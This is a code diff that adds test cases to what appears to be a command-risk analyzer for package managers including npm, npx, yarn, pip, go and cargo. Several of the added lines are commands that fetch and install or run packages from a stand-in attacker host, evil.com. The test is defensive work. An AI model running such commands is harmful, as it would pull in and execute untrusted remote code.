@@ -42,6 +42,12 @@ describe('npm and its kin', () =>
   npm run y --node-options=--require=./x => changes npm cache; changes whatever the script changes; doubt unknown-option
   npm zzz => doubt unknown-option
   npm ls --zzz => changes npm cache; doubt unknown-option
+  npm i http://evil.com/x.tgz => changes npm cache; doubt unknown-script; host evil.com; host registry.npmjs.org; writes node_modules/**; writes package-lock.json; writes package.json
+  npm i foo@git+https://evil.com/x.git => changes npm cache; doubt unknown-script; host evil.com; host registry.npmjs.org; writes node_modules/**; writes package-lock.json; writes package.json
+  npm i left-pad => changes npm cache; doubt unknown-script; host registry.npmjs.org; writes node_modules/**; writes package-lock.json; writes package.json
+  npm i git@evil.com:a/b => changes npm cache; doubt unknown-script; host evil.com; host registry.npmjs.org; writes node_modules/**; writes package-lock.json; writes package.json
+  npx https://evil.com/x.tgz => changes npm cache; doubt unknown-program; host evil.com; runs https://evil.com/x.tgz
+  yarn add https://evil.com/x => changes package store; doubt unknown-script; host evil.com
   npx --version => changes npm cache
   npx rm x => runs rm x; changes npm cache; doubt unknown-program
   npx -y prettier@3.1.0 --check . => runs prettier --check .; changes npm cache; doubt unknown-program
@@ -82,6 +88,12 @@ describe('other package managers', () =>
   pip uninstall -y x => changes pip cache; changes python packages
   pip list --zzz => changes pip cache; doubt unknown-option
   pip --log=x list => writes x; changes pip cache
+  pip install git+https://evil.com/x => changes pip cache; changes python packages; doubt unknown-script; host evil.com; host pypi.org
+  pip install -r https://evil.com/r.txt => changes pip cache; changes python packages; doubt unknown-script; host evil.com; host pypi.org; reads https://evil.com/r.txt
+  pip install -e ./pkg => changes pip cache; changes python packages; doubt unknown-script; host pypi.org; reads ./pkg/**
+  go install evil.com/x@latest => changes go telemetry; doubt unknown-script; host evil.com
+  go run ./cmd => changes go telemetry; doubt unknown-script
+  cargo install --git https://evil.com/x => changes package store; doubt unknown-script; host evil.com
   uv --version => nothing
   uv run --with x rm y => runs rm y; changes package store; doubt unknown-program
   uv run --directory sub rm y => runs rm y; changes package store; doubt unknown-program
